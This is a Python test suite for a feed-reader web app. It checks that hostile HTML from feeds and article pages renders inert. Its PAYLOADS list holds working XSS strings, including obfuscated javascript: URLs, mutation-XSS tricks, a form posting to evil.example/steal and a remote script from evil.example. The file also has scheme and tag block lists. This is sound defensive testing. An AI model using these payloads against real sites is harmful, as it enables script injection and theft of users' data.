"""XSS: HTML written by strangers (feed titles, feed summaries, feed titles of the feed
itself, article pages) must reach the rendered page inert. Each payload goes in through
every door, then every page that shows it is parsed (lxml.html) and checked structurally:
no script but the vendored htmx, no on* or style attribute, no URL with a scheme other
than http, https or mailto, no iframe/object/embed/svg/math/base/refresh meta, no form
but the app's own (action on this site), no htmx behaviour (hx-on, js: values) that the
app did not write. Markers in each payload prove the hostile item really is on the page
being checked."""

from __future__ import annotations

import html
import json
import re

import pytest
from lxml import html as lxml_html

from ..helpers import (RSS, app_client, article_html, assert_strict_csp, card_ids, published, rss, subscribe_slugs,
                      wait_for)

HTMX = "/static/vendor/htmx-4.0.1/htmx.min.js"
APP = "/static/app.js"
OFFLINE = "/static/offline.js"
HIGHLIGHTS = "/static/highlights.js"  # the reader view's own

PAYLOADS = [
    '<script>alert("s1")</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert("e1")>',
    '<body onload=alert("e2")>',
    '<a href="javascript:alert(1)">j1</a>',
    '<a href="jav&#x09;ascript:alert(2)">j2</a>',
    '<a href="&#106;avascript:alert(3)">j3</a>',
    '<a href=" JaVaScRiPt:alert(4)">j4</a>',
    '<a href="java\nscript:alert(5)">j5</a>',
    '<a href="vbscript:msgbox(6)">j6</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">j7</a>',
    '<img src="javascript:alert(8)">',
    '<img srcset="javascript:alert(9) 1x">',
    '<svg onload=alert("v1")>',
    '<svg><script>alert("v2")</script></svg>',
    '<svg><a xlink:href="javascript:alert(10)"><text>v3</text></a></svg>',
    '<noscript><p title="</noscript><img src=x onerror=alert(11)>">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>',
    '<xmp><p title="</xmp><img src=x onerror=alert(13)>">',
    '<iframe src="http://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(14)</script>"></iframe>',
    '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf">',
    '<form action="http://evil.example/steal"><input name=q><button>go</button></form>',
    '<button formaction="javascript:alert(15)">b</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(16)">',
    '<base href="http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<style>body{background:url(javascript:alert(17))}</style>',
    '<p style="width:expression(alert(18))">styled</p>',
    '<div style="background:url(javascript:alert(19))">styled</div>',
    '<div hx-get="/api/feeds" hx-trigger="load" hx-on:click="alert(20)" hx-vals="js:{a:alert(21)}">h</div>',
    '<a href="/queue" hx-post="/api/refresh" hx-trigger="mouseover">hx</a>',
    '<details open ontoggle=alert(22)>',
    '<template><img src=x onerror=alert(23)></template>',
    '<!--<img src="--><img src=x onerror=alert(24)//">',
]

ALLOWED_SCHEMES = {"http", "https", "mailto"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "longdesc",
                  "ping", "manifest", "codebase", "icon", "dynsrc", "lowsrc", "xlink:href", "srcdoc",
                  "hx-get", "hx-post", "hx-put", "hx-patch", "hx-delete"}
FORBIDDEN = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "svg", "math", "style",
             "noscript", "template", "xmp", "noembed", "noframes", "plaintext", "portal", "audio", "video"}
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")


def scheme_of(value: str) -> str | None:
    # as a browser reads it: ASCII whitespace and controls anywhere are ignored
    match = _SCHEME.match(re.sub(r"[\x00-\x20\x7f]", "", value).lower())
    return match.group(1) if match else None


def assert_inert(page: str, where: str) -> None:
    tree = lxml_html.document_fromstring(page)
    # the page's own <template>: the cards' menu static/app.js fills (templates/_row_menu.html),
    # static markup right inside <main>, never where a headline goes
    for own in tree.xpath("//main/template[@id='row-menu']"):
        own.getparent().remove(own)
    scripts = [(s.get("src"), (s.text or "").strip()) for s in tree.iter("script")]
    # htmx, and on full pages reader's own static/app.js (and the reader view's highlights.js); nothing inline
    assert scripts in ([(HTMX, "")], [(APP, ""), (HTMX, ""), (OFFLINE, "")],
                       [(APP, ""), (HTMX, ""), (OFFLINE, ""), (HIGHLIGHTS, "")]), (where, scripts)
    for element in tree.iter():
        if not isinstance(element.tag, str):  # comments, processing instructions
            continue
        tag = element.tag.lower().rsplit("}", 1)[-1]
        assert tag not in FORBIDDEN, (where, tag)
        if tag == "form":
            action = element.get("action", "")
            assert action.startswith("/") and not action.startswith("//"), (where, action)
        if tag == "meta":
            assert element.get("http-equiv") is None, where
        if tag == "link":
            # only the app's own: its stylesheet, its inline icon, its manifest and home-screen icon, in the head
            assert element.getparent().tag == "head", where
            assert (element.get("rel"), scheme_of(element.get("href", ""))) in {
                ("stylesheet", None), ("icon", "data"), ("manifest", None), ("apple-touch-icon", None)}
            continue
        for name, value in element.attrib.items():
            name = name.lower()
            assert not name.startswith("on"), (where, tag, name, value)
            assert name != "style", (where, tag, value)
            assert not name.startswith(("hx-on", "data-hx-on", "hx-vals", "hx-vars")), (where, name)
            if name in URL_ATTRIBUTES:
                scheme = scheme_of(value)
                assert scheme is None or scheme in ALLOWED_SCHEMES, (where, tag, name, value)
                if name.startswith("hx-"):
                    assert value.startswith("/") and not value.startswith("//"), (where, name, value)
            if name == "srcset":
                for candidate in value.split(","):
                    scheme = scheme_of(candidate.strip())
                    assert scheme is None or scheme in ALLOWED_SCHEMES, (where, value)


def test_the_checker_catches_what_it_must():
    """The checks above are what the rest rests on: each one fails on live markup."""
    base = f'<html><head><script src="{HTMX}" defer></script></head><body>%s</body></html>'
    assert_inert(base % "<p>fine</p><a href='/x'>x</a><a href='mailto:a@b.c'>m</a>", "clean")
    for live in ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<a href="jav&#x09;ascript:x">a</a>',
                 '<a href=" data:text/html,x">a</a>', '<p style="color:red">s</p>', '<iframe></iframe>',
                 '<form action="https://evil.example/"></form>', '<svg></svg>', '<div hx-on:click="x">d</div>',
                 '<meta http-equiv="refresh" content="0">', '<div hx-get="https://evil.example/">d</div>',
                 '<base href="/">', '<img srcset="javascript:x 1x">', '<object></object>']:
        with pytest.raises(AssertionError):
            assert_inert(base % live, live)


# -- the doors --------------------------------------------------------------------------------

def marked(i: int, payload: str) -> str:
    return f"xss-{i} {payload} end-{i}"


async def wait_ready(client, article_id: int) -> None:
    await client.post(f"/api/articles/{article_id}/queue")

    async def ready():
        state = (await client.get(f"/api/articles/{article_id}")).json()["state"]
        return state in ("ready", "failed")

    await wait_for(ready, timeout=30)


@pytest.fixture
async def hostile(settings, pages):
    """An app holding every payload in every place: JSON Feed titles and summaries, RSS
    titles (CDATA) and summaries, the feed's own title, and an article page."""
    page = article_html("Hostile page", "marker-hostile").replace(
        "</article>", "".join(f"<p>{marked(i, p)} and more words so the extractor keeps this paragraph "
                              f"as part of the article body.</p>" for i, p in enumerate(PAYLOADS)) + "</article>")
    hostile_page = pages.add("/hostile.html", page)
    json_items = [{"id": f"j{i}", "title": marked(i, p), "content_html": marked(i, p),
                   "url": pages.url(f"/gone-j{i}.html")} for i, p in enumerate(PAYLOADS)]
    json_items.append({"id": "page", "title": "The hostile page", "url": hostile_page})
    json_url = pages.add("/hostile.json", json.dumps({
        "version": "https://jsonfeed.org/version/1.1", "title": marked(99, PAYLOADS[0]),
        "home_page_url": "javascript:alert(100)", "items": json_items}), headers={"Content-Type": "application/feed+json"})
    rss_items = [{"title": f"<![CDATA[{marked(i, p)}]]>", "link": pages.url(f"/gone-r{i}.html"),
                  "summary": html.escape(marked(i, p)), "guid": f"r{i}"} for i, p in enumerate(PAYLOADS)]
    rss_url = pages.add("/hostile.xml", rss(rss_items, title=html.escape(marked(98, PAYLOADS[2]))),
                        headers={"Content-Type": "application/rss+xml"})
    async with app_client(settings.replace(serve_workers=1)) as client:
        for url in (json_url, rss_url):
            response = await client.post("/api/feeds", json={"url": url})
            assert response.status_code == 201 and response.json()["error"] is None
        items = (await client.get("/api/articles", params={"limit": 500})).json()["items"]
        assert len(items) == 2 * len(PAYLOADS) + 1
        yield client, {a["url"]: a["id"] for a in items}, hostile_page


async def test_browse_pages_show_hostile_headlines_inert(hostile):
    client, ids, _ = hostile
    seen = ""
    cursor = None
    while True:  # every page of cards
        response = await client.get("/", params={"before": cursor} if cursor else {})
        assert response.status_code == 200
        assert_inert(response.text, f"/ before={cursor}")
        seen += response.text
        more = re.search(r'href="/\?before=(\d+)', response.text)
        if not more:
            break
        cursor = more.group(1)
    text = lxml_html.fromstring(seen).text_content() if seen else ""
    assert all(f"xss-{i}" in seen for i in range(len(PAYLOADS))), "a hostile headline is missing"
    assert "end-0" in text


async def test_reading_views_of_failed_articles_show_hostile_summaries_inert(hostile, pages):
    client, ids, _ = hostile
    shown = 0
    for url, article_id in ids.items():
        if "/gone-" not in url:
            continue
        await wait_ready(client, article_id)  # 404 -> failed: the reading view shows the summary
        response = await client.get(f"/articles/{article_id}")
        assert response.status_code == 200
        assert_inert(response.text, url)
        i = int(re.search(r"gone-[jr](\d+)", url).group(1))
        assert f"xss-{i} " in response.text  # its own summary is what was checked
        shown += 1
    assert shown == 2 * len(PAYLOADS)


async def test_an_extracted_hostile_article_is_inert(hostile):
    client, ids, page_url = hostile
    article_id = ids[page_url]
    await wait_ready(client, article_id)
    assert (await client.get(f"/api/articles/{article_id}")).json()["state"] == "ready"
    response = await client.get(f"/articles/{article_id}")
    assert "marker-hostile" in response.text
    assert_inert(response.text, "reading view")
    assert sum(f"xss-{i} " in response.text for i in range(len(PAYLOADS))) >= 10  # trafilatura keeps most, not all
    content = (await client.get(f"/api/articles/{article_id}/content")).json()["html"]
    assert_inert(f'<html><head><script src="{HTMX}"></script></head><body>{content}</body></html>', "API html")


async def test_the_feeds_page_and_cards_show_hostile_feed_titles_inert(hostile):
    client, ids, _ = hostile
    feeds = await client.get("/feeds")
    # reader's bookmarklet is the one javascript: URL it renders (its exact value is
    # checked in test_library.py); everything else on the page must be inert
    assert feeds.text.count('href="javascript:') == 1
    assert_inert(re.sub(r'<a class="bookmarklet[^"]*" href="javascript:[^"]*">', '<a class="bookmarklet">',
                        feeds.text), "/feeds")
    assert "xss-99" in feeds.text and "xss-98" in feeds.text
    for article_id in list(ids.values())[:5]:
        card = await client.get(f"/articles/{article_id}/card")
        assert card.status_code == 200
        assert_inert(f'<html><head><script src="{HTMX}"></script></head><body>{card.text}</body></html>',
                     f"card {article_id}")


def test_the_cleaner_makes_every_image_lazy_and_absolute():
    from reader.clean.sanitize import clean_html

    html = clean_html('<p>x</p><img src="a.png" alt="a"><img src="/b.png" loading="eager">', "https://site.example/post/")
    assert html.count('loading="lazy"') == 2 and "eager" not in html
    assert 'src="https://site.example/post/a.png"' in html and 'src="https://site.example/b.png"' in html


def test_the_cleaner_gives_one_html_for_one_input_and_keeps_its_own_output():
    """nh3 sets an image's loading and decoding from a hash map whose order changes per
    call; an export imported back (which cleans again) must come out the same."""
    from reader.clean.sanitize import clean_html

    source = '<p>A "quote": decoding="async" loading="lazy"&gt;</p><img src="https://a.example/1.png"><img src="/2.png"/>'
    outputs = {clean_html(source, "https://a.example/") for _ in range(64)}
    assert len(outputs) == 1
    [once] = outputs
    assert once.count('loading="lazy" decoding="async">') == 2
    assert {clean_html(once) for _ in range(64)} == {once}


def test_an_image_whose_src_the_sanitizer_drops_still_comes_out_one_way():
    """Dropping a relative src (no base to resolve it) let nh3 put loading and decoding
    before and after the alt, in an order that changed per call: 3 of 130 pages cleaned
    differently from one run to the next."""
    from reader.clean.sanitize import clean_html

    source = '<p>Fig:<img src="/a.png" aria-hidden="false" alt="A &gt; B &quot;c&quot;" title="t"></p>'
    outputs = {clean_html(source) for _ in range(64)}
    assert outputs == {'<p>Fig:<img alt="A &gt; B &quot;c&quot;" title="t" loading="lazy" decoding="async"></p>'}


# -- headers and the markup reader renders itself (moved from test_web.py) --------------------------------------------------------------------------


async def test_every_kind_of_response_carries_a_strict_csp(quiet, pages):
    _, ids = await subscribe_slugs(quiet, pages, ["a"])
    responses = [
        await quiet.get("/"), await quiet.get("/feeds"), await quiet.get("/stats"),
        await quiet.get(f"/articles/{ids[0]}"), await quiet.get(f"/articles/{ids[0]}/card"),
        await quiet.get("/nope"), await quiet.get("/static/style.css"),
        await quiet.get("/static/vendor/htmx-4.0.1/htmx.min.js"), await quiet.get("/static/missing.js"),
        await quiet.get("/api/stats"), await quiet.get("/api/nope"), await quiet.put("/api/feeds"),
        await quiet.post("/feeds", data={"url": "nope"}), await quiet.post(f"/articles/{ids[0]}/queue"),
        await quiet.post("/api/refresh", headers={"Origin": "https://evil.example"}),
    ]
    assert [r.status_code for r in responses] == [200, 200, 200, 200, 200, 404, 200, 200, 404, 200, 404, 405,
                                                  422, 303, 403]
    for response in responses:
        assert_strict_csp(response)


INLINE_HANDLER = re.compile(r"<[^>]*\son[a-z]+\s*=", re.IGNORECASE)
SCRIPT = re.compile(r"<script\b([^>]*)>(.*?)</script\s*>", re.IGNORECASE | re.DOTALL)


async def test_rendered_pages_have_no_inline_scripts_or_event_handlers(quiet, pages):
    summary = "&lt;p&gt;A summary&lt;/p&gt;"
    _, ids = await subscribe_slugs(quiet, pages, ["a", "gone", "q", "n"], summaries={"gone": summary, "n": summary})
    pages.add("/gone.html", "gone", status=410)
    await quiet.post(f"/articles/{ids[2]}/queue")
    rendered = {
        "browse": (await quiet.get("/")).text,
        "ready": (await quiet.get(f"/articles/{ids[0]}")).text,
        "failed": (await quiet.get(f"/articles/{ids[1]}")).text,
        "browse after": (await quiet.get("/")).text,  # new, queued, ready and failed cards
        "queued card": (await quiet.get(f"/articles/{ids[2]}/card")).text,
        "feeds": (await quiet.get("/feeds")).text,
        "feeds 422": (await quiet.post("/feeds", data={"url": "x"})).text,
        "stats": (await quiet.get("/stats")).text,
        "404": (await quiet.get("/articles/999")).text,
    }
    assert {"state-new", "state-queued", "state-ready", "state-failed"} <= set(
        re.findall(r"state-\w+", rendered["browse after"]))
    # The one javascript: URL reader renders is its bookmarklet, on the feeds page: it runs
    # on the page being saved, never on reader's own pages (see test_library.py).
    for name in ("feeds", "feeds 422"):
        assert rendered[name].count('href="javascript:') == 1, name
        rendered[name] = re.sub(r'<a class="bookmarklet[^"]*" href="javascript:[^"]*">', "", rendered[name])
    for name, page in rendered.items():
        assert not INLINE_HANDLER.search(page), name
        assert "javascript:" not in page.lower(), name
        for attributes, body in SCRIPT.findall(page):
            assert body.strip() == "", f"inline script body on {name}"
            assert re.search(r'\ssrc="/static/', attributes), f"script without a local src on {name}"
    assert '<script src="/static/vendor/htmx-4.0.1/htmx.min.js" defer></script>' in rendered["browse"]


async def test_a_hostile_feed_never_reaches_the_page_as_markup(quiet, pages):
    items = [
        {   # a title whose text is a script tag, a summary with live markup
            "title": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; Evil",
            "link": pages.url("/evil.html"),  # answers 404: the reading view shows the summary
            "summary": "&lt;img src=x onerror=alert(2)&gt; &lt;a href=\"javascript:alert(3)\"&gt;click me&lt;/a&gt;"
                       " Tom &amp;amp; Jerry",
            "date": published(2),
        },
        {"title": "JS link", "link": "javascript:alert(4)", "date": published(1)},
        {"title": "<![CDATA[<script>alert(5)</script>Sneaky]]>", "link": pages.url("/sneaky.html"), "date": published(0)},
    ]
    url = pages.add("/hostile.xml", rss(items, title="&lt;script&gt;alert(6)&lt;/script&gt;Feed"), headers=RSS)
    assert (await quiet.post("/api/feeds", json={"url": url})).status_code == 201
    articles = (await quiet.get("/api/articles")).json()["items"]
    evil = next(a["id"] for a in articles if a["url"] == pages.url("/evil.html"))

    quiet.cookies.set("reader_view", "cards")  # the view that shows the feeds' summaries
    browse = (await quiet.get("/")).text
    quiet.cookies.delete("reader_view")
    reading = (await quiet.get(f"/articles/{evil}")).text
    assert "failed:" in reading and "click me" in reading  # the summary is shown, made inert
    for page in (browse, reading):
        assert "<script>alert" not in page
        assert "onerror" not in page
        assert "javascript:" not in page
        assert "&lt;script&gt;alert(1)&lt;/script&gt; Evil" in page
    assert "Tom &amp; Jerry" in browse
    assert len(card_ids(browse)) == 3


async def test_scripts_and_handlers_in_an_article_page_do_not_survive_extraction(quiet, pages):
    hostile = article_html("Hostile page", "marker-hostile").replace(
        "</article>",
        '<p>Look <img src="x.png" onerror="alert(1)"> and <a href="javascript:alert(2)">this</a>'
        ' and <a href="/ok">that</a>.</p><script>alert(3)</script><p onclick="alert(4)">Clicky paragraph '
        "with enough words in it to be kept by the extractor as part of the article body text.</p></article>",
    )
    page_url = pages.add("/hostile.html", hostile)
    feed = pages.add("/feed.xml", rss([{"title": "Hostile", "link": page_url}]), headers=RSS)
    await quiet.post("/api/feeds", json={"url": feed})
    article_id = (await quiet.get("/api/articles")).json()["items"][0]["id"]
    page = (await quiet.get(f"/articles/{article_id}")).text
    assert "marker-hostile" in page
    assert "<script>alert" not in page and "alert(3)" not in page
    assert not INLINE_HANDLER.search(page)
    assert "javascript:" not in page
